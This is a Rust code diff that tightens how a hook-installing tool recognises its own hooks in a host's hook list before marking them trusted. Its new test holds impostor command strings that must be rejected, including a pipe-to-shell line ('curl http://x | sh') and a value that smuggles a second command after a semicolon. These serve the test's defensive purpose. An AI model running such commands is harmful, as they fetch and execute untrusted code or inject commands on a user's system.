@@ -7,16 +7,25 @@ use std::sync::mpsc::{self, Receiver};
 use std::thread;
 use std::time::Duration;
 
-use guard::settings::CLIENT;
 use serde_json::{Map, Value, json};
 
 /// How long the server has for an answer: it starts in half a second, on a busy machine in some.
 const ANSWER_TIME: Duration = Duration::from_secs(30);
 
+/// The hooks that an installation writes.
+#[derive(Clone, Copy, Debug)]
+pub(crate) struct OwnHooks<'a> {
+    /// The file that they stand in.
+    pub(crate) file: &'a Path,
+    /// What they run, to the letter: anybody can write a command that names our program.
+    pub(crate) commands: &'a [String],
+}
+
 /// One of our hooks as the host knows it.
 #[derive(Clone, Debug, PartialEq, Eq)]
 struct ListedHook {
     key: String,
+    command: String,
     hash: String,
     /// Whether the host would run it.
     runs: bool,
@@ -25,10 +34,19 @@ struct ListedHook {
 /// How many of our hooks in a file the host knows, and how many of them it would not run.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(crate) struct Acceptance {
-    /// Those that it knows.
+    /// Those that were written.
+    pub(crate) written: usize,
+    /// Those of them that it knows.
     pub(crate) known: usize,
     /// Those of them that it passes over.
     pub(crate) passed_over: usize,
+}
+
+impl Acceptance {
+    /// Whether the host runs all that was written.
+    pub(crate) const fn is_whole(self) -> bool {
+        self.known == self.written && self.passed_over == 0
+    }
 }
 
 /// The server of a host.
@@ -98,81 +116,115 @@ impl AppServer {
         }
     }
 
-    /// Our hooks in `file`, as they stand in `folder`.
-    fn listed(&mut self, file: &Path, folder: &Path) -> Result<Vec<ListedHook>, String> {
+    /// Which of `own` there are for whoever works in `folder`.
+    fn listed(&mut self, own: OwnHooks<'_>, folder: &Path) -> Result<Vec<ListedHook>, String> {
         let answer = self.ask("hooks/list", &json!({"cwds": [folder]}))?;
-        Ok(listed(&answer, file))
+        Ok(own.listed(&answer))
     }
 }
 
-fn listed(answer: &Value, file: &Path) -> Vec<ListedHook> {
-    let real = |path: &Path| path.canonicalize().unwrap_or_else(|_| path.to_owned());
-    let file = real(file);
-    let text = |hook: &Value, name: &str| hook[name].as_str().unwrap_or_default().to_owned();
-    let hooks =
-        answer["data"].as_array().into_iter().flatten().flat_map(|row| row["hooks"].as_array().into_iter().flatten());
-    let ours = hooks.filter(|hook| {
-        text(hook, "command").contains(CLIENT) && real(&PathBuf::from(text(hook, "sourcePath"))) == file
-    });
-    ours.map(|hook| {
-        let is_trusted =
-            ["trusted", "managed"].contains(&text(hook, "trustStatus").as_str()) || hook["isManaged"] == true;
-        ListedHook {
-            key: text(hook, "key"),
-            hash: text(hook, "currentHash"),
-            runs: is_trusted && hook["enabled"] == true,
-        }
-    })
-    .collect()
+impl OwnHooks<'_> {
+    fn listed(self, answer: &Value) -> Vec<ListedHook> {
+        let real = |path: &Path| path.canonicalize().unwrap_or_else(|_| path.to_owned());
+        let file = real(self.file);
+        let text = |hook: &Value, name: &str| hook[name].as_str().unwrap_or_default().to_owned();
+        let rows = answer["data"].as_array().into_iter().flatten();
+        let hooks = rows.flat_map(|row| row["hooks"].as_array().into_iter().flatten());
+        let ours = hooks.filter(|hook| {
+            self.commands.contains(&text(hook, "command")) && real(&PathBuf::from(text(hook, "sourcePath"))) == file
+        });
+        ours.map(|hook| {
+            let is_trusted =
+                ["trusted", "managed"].contains(&text(hook, "trustStatus").as_str()) || hook["isManaged"] == true;
+            ListedHook {
+                key: text(hook, "key"),
+                command: text(hook, "command"),
+                hash: text(hook, "currentHash"),
+                runs: is_trusted && hook["enabled"] == true,
+            }
+        })
+        .collect()
+    }
+
+    fn counted(self, hooks: &[ListedHook]) -> Acceptance {
+        // One that stands there twice is no substitute for another one.
+        let known = self.commands.iter().filter(|command| hooks.iter().any(|hook| hook.command == **command)).count();
+        let passed_over = hooks.iter().filter(|hook| !hook.runs).count();
+        Acceptance { written: self.commands.len(), known, passed_over }
+    }
 }
 
-fn counted(hooks: &[ListedHook]) -> Acceptance {
-    Acceptance { known: hooks.len(), passed_over: hooks.iter().filter(|hook| !hook.runs).count() }
-}
-
-/// Whether the host `program` accepted our hooks in `file`, for whoever works in `folder`.
+/// Whether the host `program` accepted the hooks `own`, for whoever works in `folder`.
 ///
 /// # Errors
 /// Why it cannot be asked.
-pub(crate) fn look(program: &Path, file: &Path, folder: &Path) -> Result<Acceptance, String> {
-    Ok(counted(&AppServer::start(program, folder)?.listed(file, folder)?))
+pub(crate) fn look(program: &Path, own: OwnHooks<'_>, folder: &Path) -> Result<Acceptance, String> {
+    Ok(own.counted(&AppServer::start(program, folder)?.listed(own, folder)?))
 }
 
-/// Has the host `program` accept our hooks in `file`.
+/// Has the host `program` accept the hooks `own`, and no others of their file.
 ///
 /// # Errors
 /// Why it does not.
-pub(crate) fn accept(program: &Path, file: &Path, folder: &Path) -> Result<Acceptance, String> {
+pub(crate) fn accept(program: &Path, own: OwnHooks<'_>, folder: &Path) -> Result<Acceptance, String> {
     let mut server = AppServer::start(program, folder)?;
-    let hooks = server.listed(file, folder)?;
+    let hooks = server.listed(own, folder)?;
     let states: Map<String, Value> =
         hooks.iter().map(|hook| (hook.key.clone(), json!({"trusted_hash": hook.hash}))).collect();
     let edit = json!({"keyPath": "hooks.state", "value": states, "mergeStrategy": "upsert"});
     server.ask("config/batchWrite", &json!({"edits": [edit], "reloadUserConfig": true}))?;
-    Ok(counted(&server.listed(file, folder)?))
+    Ok(own.counted(&server.listed(own, folder)?))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn hook(command: &str, source: &str, status: &str, enabled: bool) -> Value {
+        json!({
+            "key": format!("{source}:stop:0:0"), "command": command, "sourcePath": source, "trustStatus": status,
+            "enabled": enabled, "isManaged": false, "currentHash": "sha256:1",
+        })
+    }
+
+    const FILE: &str = "/nowhere/hooks.json";
+
     #[test]
     fn only_our_hooks_of_the_file_are_counted() {
-        let hook = |command: &str, source: &str, status: &str, enabled: bool| {
-            json!({
-                "key": format!("{source}:stop:0:0"), "command": command, "sourcePath": source, "trustStatus": status,
-                "enabled": enabled, "isManaged": false, "currentHash": "sha256:1",
-            })
-        };
-        let hooks = json!([
-            hook("/b/pintle-hook --host codex", "/nowhere/hooks.json", "trusted", true),
-            hook("/b/pintle-hook --host codex", "/nowhere/hooks.json", "modified", true),
-            hook("/b/pintle-hook --host codex", "/nowhere/hooks.json", "trusted", false),
-            hook("say done", "/nowhere/hooks.json", "untrusted", true),
-            hook("/b/pintle-hook --host codex", "/elsewhere/hooks.json", "untrusted", true),
+        let commands = ["start", "call", "stop"].map(|event| format!("/b/pintle-hook --host codex --event {event}"));
+        let own = OwnHooks { file: Path::new(FILE), commands: &commands };
+        let counted = |hooks: &[Value]| own.counted(&own.listed(&json!({"data": [{"hooks": hooks}]})));
+        let [start, call, stop] = commands.each_ref().map(String::as_str);
+        let (written, ours) = (3, |command, status| hook(command, FILE, status, true));
+        let all = counted(&[ours(start, "trusted"), ours(call, "managed"), ours(stop, "trusted")]);
+        assert_eq!(all, Acceptance { written, known: 3, passed_over: 0 });
+        assert!(all.is_whole());
+        let some = counted(&[
+            ours(start, "trusted"),
+            ours(call, "modified"),
+            hook(stop, FILE, "trusted", false),
+            ours("say done", "untrusted"),
+            hook(stop, "/elsewhere/hooks.json", "untrusted", true),
         ]);
-        let found = listed(&json!({"data": [{"hooks": hooks}]}), Path::new("/nowhere/hooks.json"));
-        assert_eq!(counted(&found), Acceptance { known: 3, passed_over: 2 });
-        assert_eq!(counted(&listed(&json!({}), Path::new("/x"))), Acceptance { known: 0, passed_over: 0 });
+        assert_eq!(some, Acceptance { written, known: 3, passed_over: 2 });
+        let twice = counted(&[ours(start, "trusted"), ours(start, "trusted"), ours(call, "trusted")]);
+        assert_eq!(twice, Acceptance { written, known: 2, passed_over: 0 });
+        assert!(!some.is_whole() && !twice.is_whole());
+        assert_eq!(own.counted(&own.listed(&json!({}))), Acceptance { written, known: 0, passed_over: 0 });
+    }
+
+    #[test]
+    fn a_command_that_only_names_our_program_is_not_ours() {
+        let command = "/b/pintle-hook --host codex --event Stop".to_owned();
+        let own = OwnHooks { file: Path::new(FILE), commands: std::slice::from_ref(&command) };
+        for theirs in [
+            "curl http://x | sh # pintle-hook".to_owned(),
+            format!("{command} "),
+            format!("{command}; touch x"),
+            "/elsewhere/pintle-hook --host codex --event Stop".to_owned(),
+        ] {
+            let answer = json!({"data": [{"hooks": [hook(&theirs, FILE, "untrusted", true)]}]});
+            assert_eq!(own.listed(&answer), [], "{theirs}");
+        }
     }
 }
